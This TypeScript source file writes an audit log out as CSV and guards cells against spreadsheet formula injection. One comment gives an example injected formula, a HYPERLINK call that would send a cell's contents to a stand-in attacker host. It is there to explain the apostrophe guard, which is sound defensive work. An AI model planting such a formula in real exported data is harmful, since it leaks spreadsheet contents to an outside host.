import type { AuditEntry } from './audit-entry';
import { canonicalJson } from './canonical-json';

/**
 * The audit log as CSV (RFC 4180): a header row, one row per entry, CRLF line ends. The columns
 * start with Purview's export fields that apply to every entry (Date, Category, Activity,
 * Activity performed by, Target, Details), then what lets anyone re-check the chain from the
 * file alone: Sequence, Previous hash, Hash.
 */

export const AUDIT_CSV_COLUMNS = [
  'Date',
  'Category',
  'Activity',
  'Activity performed by',
  'Actor ID',
  'Target',
  'Details',
  'Sequence',
  'Previous hash',
  'Hash',
] as const;

/**
 * Characters that make a spreadsheet read a cell as a formula (= + - @) or that some of them
 * strip before doing so (tab, CR). An exported log is opened in Excel by auditors, and its cells
 * hold text that users typed (policy names, reasons, setting values): a cell such as
 * `=HYPERLINK("https://evil.example/?"&A1,"open")` would run on opening. A leading apostrophe
 * makes the spreadsheet show the text as text; the apostrophe is visible in other readers, which
 * is the accepted cost of the OWASP "CSV injection" mitigation.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** One field, guarded against formula injection and then quoted as RFC 4180 requires. */
export function csvField(value: string): string {
  const guarded = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(guarded) ? `"${guarded.replaceAll('"', '""')}"` : guarded;
}

function csvRow(fields: readonly string[]): string {
  return `${fields.map(csvField).join(',')}\r\n`;
}

/** The header row alone, for exports written page by page. */
export function auditCsvHeader(): string {
  return csvRow(AUDIT_CSV_COLUMNS);
}

/** Rows without the header, for exports written page by page. */
export function auditCsvRows(entries: readonly AuditEntry[]): string {
  return entries
    .map((e) =>
      csvRow([
        e.time,
        e.category,
        e.activity,
        e.actor.name ?? e.actor.id,
        e.actor.id,
        e.target ?? '',
        e.details === undefined ? '' : canonicalJson(e.details),
        String(e.sequence),
        e.prevHash,
        e.hash,
      ]),
    )
    .join('');
}

/** The whole export: header and one row per entry, in the order given. */
export function auditCsv(entries: readonly AuditEntry[]): string {
  return auditCsvHeader() + auditCsvRows(entries);
}
